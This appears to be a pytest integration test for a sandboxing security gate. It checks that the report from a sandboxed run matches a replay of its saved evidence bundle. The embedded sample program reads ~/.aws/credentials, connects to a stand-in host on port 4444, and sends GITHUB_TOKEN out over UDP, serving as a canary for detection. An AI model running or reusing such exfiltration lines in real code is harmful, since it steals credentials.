"""A check that ran for real, and its evidence judged again: the same report, byte for byte."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gate.cli import main
from tests.integration.launching import why_no_bwrap

PROGRAM = """\
import os, socket
open(os.path.expanduser("~/.aws/credentials")).read()
KEY = "AKIAQWERTYUIOPASDFGH"
s = socket.socket(); s.settimeout(0.2); s.connect_ex(("203.0.113.7", 4444))
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagrams.sendto(os.environ["GITHUB_TOKEN"].encode(), ("203.0.113.9", 99))
os.system("echo %s > /tmp/x" % KEY)
"""


@pytest.mark.skipif(bool(why_no_bwrap()), reason=why_no_bwrap() or "bubblewrap works")
def test_the_same_report(tmp_path: Path) -> None:
    source, bundle = tmp_path / "program.py", tmp_path / "b.zip"
    source.write_text(PROGRAM)
    first, again = ([f"--{k}={tmp_path / f'{n}.{k}'}" for k in ("json", "markdown", "sarif")] for n in "ab")
    words = ["run", "-q", "--backend", "bubblewrap", "--bundle", str(bundle)]
    code = main([*words, *first, str(source)])
    assert code == 1
    assert main(["replay", "-q", *again, str(bundle)]) == code
    for kind in ("markdown", "sarif"):
        assert (tmp_path / f"a.{kind}").read_bytes() == (tmp_path / f"b.{kind}").read_bytes()
    made, judged_again = (json.loads((tmp_path / f"{name}.json").read_text()) for name in "ab")
    assert made.pop("excerpts")
    assert judged_again.pop("excerpts") == [], "a bundle holds evidence, no code"
    assert made == judged_again
    report = (tmp_path / "a.json").read_text()
    assert "canary-leaves" in report
    assert "canary-read" in report
